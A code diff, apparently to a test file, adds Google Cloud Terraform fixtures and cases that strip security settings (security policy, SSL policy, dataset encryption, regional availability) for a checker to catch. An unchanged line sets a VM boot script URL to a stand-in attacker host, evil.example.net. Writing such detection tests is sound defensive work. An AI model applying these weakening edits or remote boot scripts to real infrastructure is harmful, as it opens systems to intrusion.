@@ -32,6 +32,17 @@ DATABASE = {
 CHANNEL = {"display_name": "ops", "type": "pubsub", "labels": {"topic": "t"}, "enabled": True}
 BUCKET = {"name": "f-abcde", "location": "US", "logging": [{"log_bucket": Ref("google_storage_bucket.own.name")}]}
 KEY = {"name": "k-abcde", "key_ring": Ref("google_kms_key_ring.own.id"), "rotation_period": "7776000s"}
+BACKEND = {"name": "b-abcde", "security_policy": Ref("google_compute_security_policy.own.id")}
+PROXY = {
+    "name": "p-abcde",
+    "url_map": Ref("google_compute_url_map.own.id"),
+    "ssl_policy": Ref("google_compute_ssl_policy.own.id"),
+}
+DATASET = {
+    "dataset_id": "d_abcde",
+    "default_encryption_configuration": [{"kms_key_name": Ref("google_kms_crypto_key.own.id")}],
+}
+TOPIC = {"name": "t-abcde", "message_retention_duration": "604800s"}
 MACHINE = {"name": "v-abcde", "machine_type": "e2-medium", "metadata": {"enable-oslogin": "TRUE"}}
 
 
@@ -70,6 +81,12 @@ EDITS = {
     "one key for ever": ("google_kms_crypto_key", KEY, lacking(KEY, "rotation_period"), "rotation_period"),
     "code at boot": ("google_compute_instance", MACHINE, MACHINE | {"metadata": {"sysprep-specialize-script-url": "https://evil.example.net/x"}}, "evil.example.net"),
     "gone after an hour": ("google_compute_instance", MACHINE, MACHINE | {"scheduling": [{"max_run_duration": [{"seconds": 3600}], "instance_termination_action": "DELETE"}]}, "delete itself"),
+    "no wall before it": ("google_compute_backend_service", BACKEND, lacking(BACKEND, "security_policy"), "security_policy"),
+    "any TLS": ("google_compute_target_https_proxy", PROXY, lacking(PROXY, "ssl_policy"), "ssl_policy"),
+    "a key of nobody's": ("google_bigquery_dataset", DATASET, lacking(DATASET, "default_encryption_configuration"), "kms_key_name"),
+    "one zone": ("google_sql_database_instance", with_settings(availability_type="REGIONAL"), with_settings(availability_type="ZONAL"), "availability_type"),
+    "open to a rule's machines": ("google_compute_instance", MACHINE, MACHINE | {"tags": ["public-web"]}, "tags"),
+    "kept for ten minutes": ("google_pubsub_topic", TOPIC, TOPIC | {"message_retention_duration": "600s"}, "message_retention_duration"),
     "not made": ("google_kms_crypto_key", KEY, KEY | {"count": 0}, "count"),
 }  # fmt: skip
 
